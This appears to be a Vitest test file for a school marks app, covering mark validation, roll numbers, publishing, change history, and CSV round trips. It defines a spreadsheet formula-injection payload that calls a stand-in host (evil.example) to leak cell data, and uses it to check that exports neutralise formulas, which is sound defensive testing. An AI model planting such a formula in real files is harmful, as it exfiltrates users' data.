import { createReadStream, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { parseWithZod } from "@conform-to/zod/v4";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "~/db.server";
import type { User } from "~/domain/access/actor";
import { DomainError } from "~/domain/core/errors.server";
import { exportSubjectCsv, exportTestCsv, importMarksCsv } from "~/domain/marks/csv.server";
import { markHistory } from "~/domain/marks/history.server";
import { setPublished } from "~/domain/marks/publish.server";
import { subjectReportCard } from "~/domain/marks/report-card.server";
import { setRollNumbers } from "~/domain/marks/roll-numbers.server";
import { resultSheet, saveResults } from "~/domain/marks/sheet.server";
import { getTestResult } from "~/domain/marks/statistics.server";
import { listStudentTests } from "~/domain/marks/student-tests.server";
import { createTest, listSubjectTests } from "~/domain/marks/tests.server";
import { marksSheetSchemaFor, resultRowSchemaFor, rollNumbersSchema, sheetRowSchemaFor } from "~/schemas/marks";

const resultRowSchema = resultRowSchemaFor(Number.POSITIVE_INFINITY);
const sheetRowSchema = sheetRowSchemaFor(Number.POSITIVE_INFINITY);

const teacher: User = {
  id: 0,
  email: "t@sheet.test",
  firstName: "Tara",
  lastName: "Teacher",
  role: "teacher",
  batchId: null,
};
let batchId: number;
let subjectId: number;
let students: User[];
const EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Open")';

beforeAll(async () => {
  const batch = await db.batch.create({
    data: { name: "Sheet batch", subjects: { create: { name: "Physics" } } },
    include: { subjects: true },
  });
  batchId = batch.id;
  subjectId = batch.subjects[0].id;
  students = [];
  for (const name of ["Zoya", "Arun", EVIL, "Meena"]) {
    const user = await db.user.create({
      data: {
        email: `${students.length}@sheet.test`,
        firstName: name,
        lastName: "",
        role: "student",
        batchId,
        access: { create: { subjectId, permitted: true } },
      },
    });
    students.push({ ...user, role: "student" });
  }
});

const newTest = async (name: string) =>
  (await createTest(teacher, batchId, subjectId, { test_name: name, date: "2026-11-22", max_marks: 100 })).test.id;

describe("marks with two decimals", () => {
  it("accepts every two-decimal value from 0 to 100 (33.3, 1.1 and 0.29 among them)", () => {
    const refused: string[] = [];
    for (let hundredths = 0; hundredths <= 10000; hundredths++) {
      const text = (hundredths / 100).toFixed(2);
      const api = resultRowSchema.safeParse({ student_id: 1, marks: text, attempted: true });
      const sheet = sheetRowSchema.safeParse({ student_id: 1, marks: text.replace(/0+$/, ""), absent: "" });
      if (!api.success || !sheet.success || api.data.marks !== hundredths / 100 || sheet.data?.marks !== api.data.marks)
        refused.push(text);
    }
    expect(refused).toEqual([]);
  });

  it("still refuses three decimals", () => {
    const parsed = sheetRowSchema.safeParse({ student_id: 1, marks: "1.005", absent: "" });
    expect(parsed.success ? null : parsed.error.issues[0].message).toBe("Use at most two decimal places");
  });
});

describe("the sheet's rows", () => {
  it("a typed mark is attempted, Absent is not attempted, neither is not entered and not saved", () => {
    const rows = ["42", "", "", "7"].map((marks, index) =>
      sheetRowSchema.parse({ student_id: index + 1, marks, absent: index === 1 ? "on" : "" }),
    );
    expect(rows).toEqual([
      { student_id: 1, marks: 42, attempted: true, remark: "" },
      { student_id: 2, marks: 0, attempted: false, remark: "" },
      undefined,
      { student_id: 4, marks: 7, attempted: true, remark: "" },
    ]);
  });

  it("a row number the form skipped is no row: errors name only the rows sent, each keeps its line", () => {
    const form = (fields: Record<string, string>) => {
      const data = new FormData();
      for (const [name, value] of Object.entries(fields)) data.append(name, value);
      return data;
    };
    const refused = parseWithZod(form({ "students[3].student_id": "4", "students[3].roll_no": "x" }), {
      schema: rollNumbersSchema,
    });
    expect(refused.status).toBe("error");
    expect(refused.reply().error).toEqual({ "students[3].roll_no": ["Roll number must be a number"] });

    const sheet = parseWithZod(
      form({
        "results[2].student_id": "9",
        "results[2].marks": "7",
        "results[5].student_id": "6",
        "results[5].absent": "on",
      }),
      { schema: marksSheetSchemaFor(10) },
    );
    expect(sheet.status === "success" ? sheet.value.results : sheet.error).toEqual([
      { line: 2, student_id: 9, marks: 7, attempted: true, remark: "" },
      { line: 5, student_id: 6, marks: 0, attempted: false, remark: "" },
    ]);
  });

  it("says which letter looks like a digit in a mistyped mark", () => {
    const message = (marks: unknown) => {
      const parsed = sheetRowSchema.safeParse({ student_id: 1, marks, absent: "" });
      return parsed.success ? null : parsed.error.issues[0].message;
    };
    expect(message("7O")).toBe("7O is not a number (a letter O?)");
    expect(message("l2")).toBe("l2 is not a number (a letter l?)");
    expect(message(" I0 ")).toBe("I0 is not a number (a letter I?)");
    expect(message("1O.5")).toBe("1O.5 is not a number (a letter O?)");
    expect(message("seventy")).toBe("Marks must be a number");
    expect(message(true)).toBe("Marks must be a number");
    expect(message("-3")).toBe("Marks cannot be negative");
    expect(resultRowSchema.safeParse({ student_id: 1, marks: "9O", attempted: true }).error?.issues[0].message).toBe(
      "9O is not a number (a letter O?)",
    );
  });

  it("refuses a mark and Absent together", () => {
    const parsed = sheetRowSchema.safeParse({ student_id: 1, marks: "5", absent: "on" });
    expect(parsed.success ? null : parsed.error.issues[0].message).toBe("Clear the mark or untick Absent");
  });

  it("names a bad row by its line on the sheet, not its place among entered rows", async () => {
    const testId = await newTest("Lines");
    const error = await saveResults(teacher, testId, [
      { line: 0, student_id: students[0].id, marks: 5, attempted: true, remark: "" },
      { line: 3, student_id: students[3].id, marks: 500, attempted: true, remark: "" },
    ]).catch((e: DomainError) => e);
    expect((error as DomainError).fieldErrors).toEqual({ "results[3].marks": ["Marks cannot be more than 100"] });
  });
});

describe("roll numbers", () => {
  it("are given in order of registration and order the sheet", async () => {
    const registered = await db.user.findMany({ where: { batchId }, orderBy: { id: "asc" }, select: { rollNo: true } });
    expect(registered.map((s) => s.rollNo)).toEqual([1, 2, 3, 4]);
    const sheet = await resultSheet(teacher, await newTest("Order"));
    expect(sheet.rows.map((row) => row.student.rollNo)).toEqual([1, 2, 3, 4]);
  });

  it("can be swapped in one go, and a number taken by another student is refused", async () => {
    const [zoya, arun, , meena] = students;
    await setRollNumbers(teacher, batchId, [
      { student_id: zoya.id, roll_no: 2 },
      { student_id: arun.id, roll_no: 1 },
    ]);
    const { students: listed } = await listSubjectTests(teacher, batchId, subjectId);
    expect(listed.slice(0, 2).map((s) => s.id)).toEqual([arun.id, zoya.id]);
    const error = await setRollNumbers(teacher, batchId, [{ student_id: meena.id, roll_no: 1 }]).catch(
      (e: DomainError) => e,
    );
    expect(error).toBeInstanceOf(DomainError);
    expect((error as DomainError).fieldErrors).toEqual({ "students[0].roll_no": ["Roll number 1 is Arun's"] });
    await setRollNumbers(teacher, batchId, [
      { student_id: zoya.id, roll_no: 1 },
      { student_id: arun.id, roll_no: 2 },
    ]);
  });
});

describe("draft, publish and history", () => {
  it("students see nothing of a draft; publishing shows it; unpublishing hides it again", async () => {
    const testId = await newTest("Draft");
    const [zoya, arun] = students;
    await saveResults(teacher, testId, [
      { student_id: zoya.id, marks: 80, attempted: true, remark: "Good" },
      { student_id: arun.id, marks: 60, attempted: true, remark: "" },
    ]);
    expect(await getTestResult(zoya, testId)).toMatchObject({ published: false, studentMarks: null, rank: null });
    expect((await listStudentTests(zoya, batchId)).tests.find((t) => t.id === testId)).toMatchObject({ marks: null });
    expect((await subjectReportCard(zoya, subjectId)).tests.some((t) => t.id === testId)).toBe(false);

    await setPublished(teacher, testId, true);
    expect(await getTestResult(zoya, testId)).toMatchObject({ studentMarks: 80, rank: 1, average: 70 });
    expect((await subjectReportCard(zoya, subjectId)).tests.find((t) => t.id === testId)).toMatchObject({
      marks: 80,
      average: 70,
      rank: 1,
      remark: "Good",
    });

    await setPublished(teacher, testId, false);
    expect(await getTestResult(arun, testId)).toMatchObject({ published: false, studentMarks: null });
  });

  it("refuses to publish a test with no marks", async () => {
    const error = await setPublished(teacher, await newTest("Empty"), true).catch((e: DomainError) => e);
    expect(error).toBeInstanceOf(DomainError);
  });

  it("records every change with who, old and new; an unchanged row records nothing", async () => {
    const testId = await newTest("History");
    const [zoya] = students;
    const save = (marks: number, attempted = true, remark = "") =>
      saveResults(teacher, testId, [{ student_id: zoya.id, marks, attempted, remark }]);
    await save(40);
    await save(40);
    await save(45, true, "Rechecked");
    await save(0, false);
    const { changes } = await markHistory(teacher, testId, zoya.id);
    expect(changes.map((c) => [c.old, c.new, c.newRemark, c.changedBy])).toEqual([
      ["45", "Absent", "", "Tara Teacher"],
      ["40", "45", "Rechecked", "Tara Teacher"],
      [null, "40", "", "Tara Teacher"],
    ]);
    const { csv } = await exportTestCsv(teacher, testId, true);
    expect(csv.split("\n")[0]).toBe("changed_at,changed_by,roll_no,name,old_marks,new_marks,old_remark,new_remark");
    expect(csv).toContain(",40,45,,Rechecked");
  });
});

describe("CSV", () => {
  it("neutralises formula cells and reads them back: roll numbers, absent students and remarks survive", async () => {
    const testId = await newTest("Round trip");
    const [zoya, arun, evil] = students;
    await saveResults(teacher, testId, [
      { student_id: zoya.id, marks: 33.3, attempted: true, remark: "-careful with signs" },
      { student_id: arun.id, marks: 0, attempted: false, remark: "Was ill" },
      { student_id: evil.id, marks: 0.29, attempted: true, remark: "@home" },
    ]);
    const { csv } = await exportTestCsv(teacher, testId);
    const lines = csv.trim().split("\n");
    expect(lines[0]).toBe("roll_no,email,name,marks,attempted,remark");
    expect(lines[1]).toBe(`1,${zoya.email},Zoya,33.3,yes,'-careful with signs`);
    expect(lines[2]).toBe(`2,${arun.email},Arun,,no,Was ill`);
    expect(lines[3]).toBe(`3,${evil.email},"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")",0.29,yes,'@home`);
    expect(lines[4]).toBe(`4,${students[3].email},Meena,,,`);
    for (const line of lines) expect(line.split(",").every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);

    const imported = await importMarksCsv(teacher, testId, Readable.from([csv]));
    expect(imported.problems).toEqual([]);
    expect(imported.rows).toMatchObject([
      { studentId: zoya.id, marks: "33.3", absent: false, remark: "-careful with signs" },
      { studentId: arun.id, marks: "", absent: true, remark: "Was ill" },
      { studentId: evil.id, marks: "0.29", absent: false, remark: "@home" },
      { studentId: students[3].id, marks: "", absent: false, remark: "" },
    ]);

    // Saving the imported sheet changes nothing: the export after it is the same file.
    const rows = imported.rows.flatMap((row) => {
      const parsed = sheetRowSchema.parse({ ...row, student_id: row.studentId, absent: row.absent ? "on" : "" });
      return parsed ? [parsed] : [];
    });
    await saveResults(teacher, testId, rows);
    expect((await exportTestCsv(teacher, testId)).csv).toBe(csv);

    // Matching by roll number when the file has no email column.
    const byRoll = await importMarksCsv(teacher, testId, Readable.from(["roll_no,marks,attempted\n4,55,yes\n"]));
    expect(byRoll.rows[3]).toMatchObject({ marks: "55", absent: false });

    const subject = await exportSubjectCsv(teacher, batchId, subjectId);
    expect(subject.csv).toContain(`"'=HYPERLINK(`);
    expect(subject.csv.split("\n")[0].startsWith("roll_no,email,name,")).toBe(true);
  });

  it("a CSV of more lines than the sheet has students is refused as soon as it shows, a 24 MB one included", async () => {
    const testId = await newTest("Too long");
    const line = `${students[0].email},5,yes\n`;
    const huge = path.join(mkdtempSync(path.join(tmpdir(), "marks-csv-")), "huge.csv");
    writeFileSync(huge, `email,marks,attempted\n${line.repeat(Math.ceil((24 * 1024 * 1024) / line.length))}`);
    const start = performance.now();
    const refused = await importMarksCsv(teacher, testId, createReadStream(huge)).catch((error: DomainError) => error);
    expect(performance.now() - start).toBeLessThan(500);
    expect((refused as DomainError).message).toBe(
      `The file has more lines than the sheet has students (${students.length}). Keep one line per student and import it again.`,
    );
    const oneLongLine = `email,marks,remark\n${students[0].email},5,${"x".repeat(64 * 1024)}\n`;
    const long = await importMarksCsv(teacher, testId, Readable.from([oneLongLine])).catch(
      (error: DomainError) => error,
    );
    expect((long as DomainError).message).toMatch(/^The file is not a readable CSV/);
  });
});
